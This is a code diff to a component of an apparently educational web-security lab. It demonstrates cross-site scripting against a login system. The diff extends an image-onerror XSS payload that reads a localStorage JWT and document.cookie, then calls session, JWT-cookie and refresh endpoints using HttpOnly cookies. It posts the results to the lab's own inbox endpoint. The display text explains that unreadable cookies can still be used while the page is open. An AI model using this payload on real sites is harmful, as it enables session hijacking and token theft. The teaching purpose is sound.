@@ -8,14 +8,16 @@ import type { Delivery } from "./delivery";
 /**
  * The ready payload: an image that fails to load runs its onerror handler, which reads what page
  * script can read (localStorage, document.cookie), uses what it cannot read (the HttpOnly
- * cookies, which the browser still attaches to same-origin requests), and mails it all home.
+ * cookies — session, JWT in the cookie transport, refresh — which the browser still attaches to
+ * same-origin requests), and mails it all home.
  */
 export const PAYLOAD = `<img src="/no-such-image.png" alt="" onerror="(async () => {
   const jwt = localStorage.getItem('loginlab.jwt');
   const session = await fetch('/api/session/mypage').then((r) => r.text());
+  const jwtCookie = await fetch('/api/jwt/mypage').then(async (r) => r.status + ' ' + (await r.text()));
   const refreshed = await fetch('/api/hybrid/refresh', { method: 'POST' }).then((r) => r.json()).catch(() => ({}));
   await fetch('/api/lab/inbox', { method: 'POST', headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ jwt, documentCookie: document.cookie, session: session.slice(0, 2000), hybridAccessToken: refreshed.access_token ?? null }) });
+    body: JSON.stringify({ jwt, documentCookie: document.cookie, session: session.slice(0, 1000), jwtCookie: jwtCookie.slice(0, 600), hybridAccessToken: refreshed.access_token ?? null }) });
 })()">`;
 
 export function XssLab({ csp }: { csp: boolean }) {
@@ -108,12 +110,23 @@ export function XssLab({ csp }: { csp: boolean }) {
                 </p>
               ) : null}
               <p>
-                <strong>document.cookie:</strong> <code data-testid="stolen-cookie" className="font-mono">{JSON.stringify(d.documentCookie)}</code> — the HttpOnly session
-                and refresh cookies are not in it.
+                <strong>document.cookie:</strong> <code data-testid="stolen-cookie" className="font-mono">{JSON.stringify(d.documentCookie)}</code> — the HttpOnly session,
+                JWT and refresh cookies are not in it.
               </p>
               <p>
                 <strong>But the script used them while the page was open:</strong> <code className="font-mono break-all">GET /api/session/mypage → {d.session.slice(0, 120)}</code>
                 {d.hybridAccessToken ? " · and a fresh hybrid access token from POST /api/hybrid/refresh." : ""}
+              </p>
+              <p data-testid="jwt-cookie-use">
+                <strong>The JWT cookie (cookie transport):</strong>{" "}
+                {d.jwtCookie.startsWith("200 ") ? (
+                  <>
+                    unreadable, so not stolen — but used: <code className="font-mono break-all">GET /api/jwt/mypage → {d.jwtCookie.slice(0, 120)}</code>. The
+                    thief cannot take it away; while the page is open, it does not need to.
+                  </>
+                ) : (
+                  <>none sent (not logged in with the cookie transport): <code className="font-mono break-all">{d.jwtCookie.slice(0, 80)}</code></>
+                )}
               </p>
             </div>
           ))}
